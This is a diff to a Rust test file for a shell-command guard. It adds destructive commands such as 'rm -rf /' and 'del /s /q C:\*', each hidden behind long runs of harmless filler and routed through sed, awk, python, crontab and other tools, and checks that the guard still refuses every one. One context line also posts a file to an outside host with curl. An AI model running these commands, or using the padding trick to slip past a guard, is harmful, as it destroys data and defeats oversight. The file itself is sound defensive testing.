@@ -146,3 +146,39 @@ fn a_rule_may_ask_for_another_effect_of_the_same_command() {
     assert_eq!(hits("rm a"), 0);
     assert_eq!(hits("curl -d @a https://example.com; rm a"), 1);
 }
+
+/// What stands before, what is repeated (`#` is its number), how often, and what stands behind.
+const PADDED: &[(&str, &str, usize, &str)] = &[
+    ("printf '", "a#\\n", 60, "/\\n' | xargs -I{} rm -rf {}"),
+    ("parallel rm -rf ::: ", "a# ", 60, "/"),
+    ("for d in ", "a# ", 60, "/; do rm -rf $d; done"),
+    ("printf '", "a#\\n", 60, "/\\n' | while read d; do rm -rf $d; done"),
+    ("printf '", "# x\\n", 60, "* * * * * rm -rf /\\n' | crontab -"),
+    ("expect -c '", "send a;", 100, "spawn rm -rf /'"),
+    ("make -f - <<'E'\n", "\ttrue\n", 100, "\trm -rf /\nE"),
+    ("cmd /c '", "dir & ", 100, "del /s /q C:\\*'"),
+    ("a=(", "a# ", 60, "'/'); for x in \"${a[@]}\"; do rm -rf $x; done"),
+    ("sed '", "s/a/b/;", 300, "1e rm -rf /' x"),
+    ("awk 'BEGIN{", "v#=\"x\";", 100, "c=\"rm -rf /\"; system(c)}'"),
+    ("python3 -c 'import os\nfor d in [", "\"a#\",", 60, "\"/\"]: os.system(\"rm -rf \"+d)'"),
+    ("powershell -c '", "ls;", 1100, "rm -r C:/'"),
+    ("ed x <<'E'\n", "p\n", 1100, "!rm -rf /\nE"),
+    ("sftp h <<'E'\n", "pwd\n", 300, "!rm -rf /\nE"),
+    ("echo ", "a# ", 1100, "/ | xargs rm -rf"),
+    ("", "echo a > f#;", 300, "echo 'rm -rf /' > g; sh g"),
+];
+
+#[test]
+fn nothing_hides_behind_a_long_harmless_list() {
+    for (head, unit, times, tail) in PADDED {
+        let padding: String = (0..*times).map(|at| unit.replace('#', &at.to_string())).collect();
+        let command = format!("{head}{padding}{tail}");
+        let place = Place { cwd: "/home/dev/app", home: "/home/dev", os: Os::Linux };
+        let analysis = analyse(&command, place, &Limits::default());
+        let context = GuardContext { place, ..GuardContext::default() };
+        let rules = CommandRules::builtin();
+        let is_refused =
+            rules.judge(&analysis, &context).iter().any(|hit| hit.rule.severity >= Severity::High);
+        assert!(is_refused, "{head}{unit} x {times} {tail}");
+    }
+}
